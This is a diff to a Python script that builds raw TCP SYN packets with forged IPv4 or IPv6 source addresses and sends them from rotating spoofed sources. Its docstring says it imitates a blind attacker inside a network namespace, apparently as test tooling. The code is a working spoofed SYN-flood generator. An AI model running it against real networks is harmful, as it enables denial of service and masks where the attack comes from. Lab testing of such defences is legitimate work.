@@ -1,7 +1,7 @@
-"""Bare TCP SYNs with a forged IPv4 source, as a blind attacker sends them; run inside a
+"""Bare TCP SYNs with a forged source, as a blind attacker sends them; run inside a
 namespace: ``python spoof.py SRC DST PORT COUNT [SOURCES]``: COUNT SYNs from SRC, or from
-SOURCES consecutive addresses starting at SRC in turn (then as fast as it can).  Needs a
-raw socket (root there)."""
+SOURCES consecutive addresses starting at SRC in turn (then as fast as it can).  IPv4 or
+IPv6 (by SRC).  Needs a raw socket (root there)."""
 
 from __future__ import annotations
 
@@ -23,8 +23,15 @@ def checksum(data: bytes) -> int:
 
 
 def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
+    """A whole IP packet (header included) carrying one bare SYN."""
     tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02,
                       64240, 0, 0)
+    if ":" in src:
+        source, destination = (socket.inet_pton(socket.AF_INET6, a) for a in (src, dst))
+        pseudo = source + destination + struct.pack("!I3xB", len(tcp), 6)
+        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+        return struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64, source,
+                           destination) + tcp
     pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
     tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
@@ -34,10 +41,12 @@ def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
 
 
 def main(src: str, dst: str, port: int, count: int, sources: int = 1) -> None:
-    first = int(ipaddress.IPv4Address(src))
-    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
+    first = ipaddress.ip_address(src)
+    family = socket.AF_INET6 if first.version == 6 else socket.AF_INET
+    # IPPROTO_RAW: the packet carries its own IP header (IPv6 too, on Linux).
+    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
         for number in range(count):
-            source = str(ipaddress.IPv4Address(first + number % sources))
+            source = str(first + number % sources)
             sock.sendto(syn(source, dst, random.randint(20000, 60000), port), (dst, 0))
             if sources == 1:
                 time.sleep(0.05)
